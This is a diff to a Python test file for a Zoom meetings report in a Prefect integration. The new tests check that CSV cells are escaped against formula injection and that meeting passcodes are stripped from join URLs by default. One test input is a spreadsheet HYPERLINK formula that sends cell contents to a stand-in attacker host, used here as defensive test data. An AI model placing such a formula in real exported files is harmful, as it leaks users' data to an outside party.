@@ -462,6 +462,39 @@ def test_meetings_report_falls_back_to_me_without_list_users(
     assert [(r["user"], r["topic"]) for r in read_csv(path)] == [("me", "Mine")]
 
 
+def test_report_csv_holds_no_formulas_and_no_passcodes(
+    zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
+) -> None:
+    owner = zoom_emulator.config.user_email
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    meeting_id = seed_meeting(zoom_emulator, owner, hostile, START)
+    seed_meeting(zoom_emulator, owner, "-2+3", START + timedelta(hours=1))
+    join_url = zoom_emulator.state.meetings[meeting_id]["join_url"]
+    assert "?pwd=" in join_url
+
+    path = meetings_report(block_name, user_ids=["me"], output_csv=str(tmp_path / "m.csv"))
+
+    rows = read_csv(path)
+    assert [r["topic"] for r in rows] == ["'" + hostile, "'-2+3"]
+    assert rows[0]["join_url"] == join_url.split("?")[0]
+    assert rows[0]["duration"] == "30"  # numbers stay numbers
+    assert "pwd=" not in Path(path).read_text(encoding="utf-8")
+
+    asked = meetings_report(
+        block_name, user_ids=["me"], output_csv=str(tmp_path / "p.csv"), include_passcodes=True
+    )
+    assert read_csv(asked)[0]["join_url"] == join_url
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
+    from prefect_zoom.flows._support import csv_cell
+
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Plain = fine") == "Plain = fine"
+    assert csv_cell(-5) == "-5" and csv_cell(None) == ""
+
+
 @configured(seed_users=3)
 def test_users_report_writes_every_active_user(
     emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
